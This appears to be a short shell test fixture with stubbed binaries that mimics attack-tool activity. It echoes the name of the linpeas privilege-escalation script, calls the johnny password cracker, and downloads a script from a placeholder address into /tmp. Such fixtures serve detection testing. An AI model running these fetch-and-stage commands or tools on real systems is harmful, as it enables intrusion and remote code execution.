# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/johnny /usr/bin/curl
sh -c 'echo linpeas'
johnny --version
curl -sLo /tmp/lessons.sh http://192.0.2.7/lessons.sh
